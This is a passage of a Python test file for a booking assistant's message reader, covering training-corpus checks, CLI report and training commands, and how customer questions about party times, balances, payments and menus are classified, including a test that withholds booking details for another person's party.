        corpus.examples[k] = replace(corpus.examples[k], safety="HIGH")
        assert corpus.fingerprint() != before

    def test_every_menu_item_a_line_names_is_on_the_seeded_menu(self) -> None:
        """A misspelt label ("yakisoba_noodles") matches no word and would teach the reader
        that the add-on said is not wanted."""
        vocabulary = training.default_vocabulary()
        # add-ons the seed does not sell but an owner may add (bk-0162, bk-0189)
        known = {*vocabulary.proteins, *vocabulary.upgrades, "gyoza", "edamame"}
        named = {
            (e.id, item)
            for e in corpora.load().examples
            for key in ("proteins", "removed_proteins", "upgrades", "removed_upgrades")
            for item in e.entities.get(key) or []
        }
        assert {(i, item) for i, item in named if item not in known} == set()

    def test_the_split_is_drawn_once_per_file_and_never_again(self, tmp_path: Path) -> None:
        folder = tmp_path / "en"
        folder.mkdir()
        line = '{{"id": "{}", "text": "hi", "intents": ["greeting"], "tone": "casual"}}'
        for name in ("a", "b"):
            rows = [line.format(f"{name}-{i}") for i in range(10)]
            (folder / f"{name}.jsonl").write_text("\n".join(rows) + "\n")
        written = corpora.freeze_split(tmp_path)
        ids = written.read_text().split()
        assert sum(i.startswith("a-") for i in ids) == sum(i.startswith("b-") for i in ids) == 3
        with pytest.raises(CorpusError, match="frozen"):
            corpora.freeze_split(tmp_path)
        assert written.read_text().split() == ids

    def test_a_file_staged_for_review_is_not_trained_on(self, tmp_path: Path) -> None:
        folder = tmp_path / "en"
        folder.mkdir()
        line = '{{"id": "{}", "text": "hi", "intents": ["greeting"], "tone": "casual"}}'
        (folder / "kept.jsonl").write_text(line.format("k-1") + "\n")
        (folder / "staged.jsonl.review").write_text(line.format("s-1") + "\n")
        assert [e.id for e in corpora.load(tmp_path).examples] == ["k-1"]

    def test_a_bad_line_names_its_place(self) -> None:
        with pytest.raises(CorpusError, match=r"x\.jsonl:1: intents"):
            corpora.parse_line(
                '{"id": "a", "text": "t", "intents": ["nope"], "tone": "neutral"}',
                "x.jsonl:1",
                "en",
                "x",
            )


class TestCommands:
    def test_report_prints_the_figures_per_style_and_the_confusion_matrix(self) -> None:
        from typer.testing import CliRunner

        from api.cli import app

        result = CliRunner().invoke(app, ["reader", "report", "--rules"])
        assert result.exit_code == 0, result.output
        assert "safety recall" in result.output and "false changes" in result.output
        assert "by writing style" in result.output and "labelled (rows)" in result.output
        figures = json.loads(result.output.strip().splitlines()[-1])
        assert figures["messages"] == len(corpora.load().split("test"))

    def test_train_writes_the_model_with_its_provenance(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from typer.testing import CliRunner

        from agent.understanding import reader as reader_module
        from api.cli import app

        monkeypatch.setattr(reader_module, "MODELS", tmp_path)
        result = CliRunner().invoke(app, ["reader", "train"])
        assert result.exit_code == 0, result.output
        provenance = json.loads((tmp_path / "reader-en.json").read_text())
        assert provenance["corpus"] == training.fingerprint()
        assert provenance["training_messages"] == len(corpora.load().split("train"))
        assert LearnedReader.load(tmp_path / "reader-en.joblib").slots is not None

    def test_cross_validation_trains_every_fold_on_a_file_weighed_and_never_scores_it(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from agent.understanding import report, training

        examples = corpora.load().split("train")[:9]
        extra = corpora.load().split("train")[-2:]
        trained: list[list[str]] = []

        def fit(rest: list[corpora.Example], language: str, provenance: dict[str, object]) -> None:
            trained.append([e.id for e in rest])

        monkeypatch.setattr(training, "fit", fit)
        read = report._cross_validated(examples, 3, extra)
        assert len(trained) == 3
        for fold in trained:
            assert {e.id for e in extra} <= set(fold)
            assert len(fold) == 6 + len(extra)  # two thirds of the scored messages, and the file
        assert read is not None


class TestBookingTopics:
    """What a booking question asks, read from the topics kept as data."""

    @pytest.mark.parametrize(
        ("text", "asked"),
        [
            ("what time does my party start again?", ["when"]),
            ("what time will the chef get here?", ["arrival"]),
            ("when is my party and what time does the chef come", ["when", "arrival"]),
            ("what address do you have for us", ["address"]),
            ("when is it and where", ["when", "address"]),
            ("how many guests do we have down?", ["guests"]),
            ("what did we pick for the menu", ["menu"]),
            ("whats my booking #", ["reference"]),
            ("how much do i owe on the day", ["balance"]),
            ("anything else you need from me?", ["missing"]),
            ("can you pull up my reservation", ["details"]),
            ("just sent the rest thru venmo", ["paid"]),
            ("zelled you the balance this morning", ["paid", "balance"]),
            # not paid, or asking how to: no payment to find
            ("i haven't paid the deposit yet", []),
            ("can i zelle you the balance", ["balance"]),
            ("we already sent you the menu", []),
            ("hmm", []),
        ],
    )
    def test_each_topic_is_read(self, text: str, asked: list[str]) -> None:
        assert Topics.load("en").asked(text) == asked

    def test_a_payment_is_reported_only_where_the_words_say_it(self) -> None:
        """The learned reader alone took "can the rest b paid w zelle?" for a payment made
        (a case for the team); `named_only` topics need their patterns."""
        assert "paid" in Topics.load("en").named_only
        odds = _Says({"booking_question": 0.95}, topics={"paid": 0.9, "balance": 0.8})
        got = Reader(odds).understand("can the rest b paid w zelle?", context(), VOCABULARY)
        assert got.requests[0].entities.asked == ["balance"]
        said = Reader(odds).understand("just sent the rest thru venmo", context(), VOCABULARY)
        assert "paid" in said.requests[0].entities.asked

    def test_the_general_question_inside_a_booking_question_is_not_asked_twice(self) -> None:
        both = _Says({"booking_question": 0.9, "faq": 0.8})
        got = Reader(both).understand(
            "how much do we still owe on the day, and can it be cash?", context(), VOCABULARY
        )
        assert intents(got) == ["booking_question"]

    def test_of_one_question_read_both_ways_the_surer_reading_stands(self) -> None:
        surer_general = _Says({"booking_question": 0.55, "faq": 0.9})
        got = Reader(surer_general).understand(
            "first time hosting, what do we need to provide?", context(), VOCABULARY
        )
        assert intents(got) == ["faq"]

    @pytest.mark.parametrize(
        ("clauses", "kept"),
        [
            # "if we add 3 kids how much more? also do you take venmo?": the booking question
            # is only the whole message's blend; the general one is asked in a clause
            ([(0.17, 0.21), (1.0, 0.33)], ["faq"]),
            # "what's my balance? also do you take venmo?": each asked in a clause of its own
            ([(0.1, 0.9), (0.95, 0.2)], ["faq", "booking_question"]),
        ],
    )
    def test_a_question_only_the_whole_message_reads_beside_one_a_clause_asks_is_that_one(
        self, clauses: list[tuple[float, float]], kept: list[str]
    ) -> None:
        def reading(faq: float, booking: float) -> Reading:
            intents = dict.fromkeys(LABELS, 0.0) | {"faq": faq, "booking_question": booking}
            return Reading(intents, "neutral", 1.0)

        chosen = ["faq", "booking_question"]
        per_clause = [reading(f, b) for f, b in clauses]
        assert reader_module._one_question(chosen, per_clause, reading(0.99, 0.74)) == kept

    def test_a_booking_question_nothing_places_asks_for_the_whole_booking(self) -> None:
        got = Reader(_Says({"booking_question": 0.99})).understand("hmm", context(), VOCABULARY)
        assert got.requests[0].entities.asked == ["details"]

    def test_the_learned_topics_answer_what_no_pattern_names(self) -> None:
        model = _Says({"booking_question": 0.99}, topics={"menu": 0.8, "when": 0.1})
        got = Reader(model).understand(
            "r we getting filet or regular, i forget", context(), VOCABULARY
        )
        assert got.requests[0].entities.asked == ["menu"]

    @pytest.mark.parametrize(
        ("text", "someone_else"),
        [
            ("what's the address for the johnson family's party? i'm their neighbor", True),
            ("can you tell me someone else's booking time", True),
            ("what time is my daughter's party", False),
            ("when is our party again", False),
        ],
    )
    def test_a_question_about_another_persons_party_is_marked(
        self, text: str, someone_else: bool
    ) -> None:
        got = Reader(_Says({"booking_question": 0.99})).understand(text, context(), VOCABULARY)
        assert got.requests[0].entities.someone_else is someone_else

    def test_another_persons_party_gets_no_booking_details(self) -> None:
        from tools.policy import decide_someone_elses_booking

        decision = decide_someone_elses_booking()
        assert (decision.kind, dict(decision.facts)) == ("booking_private", {})

    def test_a_booking_question_carries_its_topics(self) -> None:
        got = Reader(_Says({"booking_question": 0.99})).understand(
            "wat time does the chef get there and how much do we owe", context(), VOCABULARY
        )
        [request] = got.requests
        assert request.intent == "booking_question"
        assert request.entities.asked == ["arrival", "balance"]
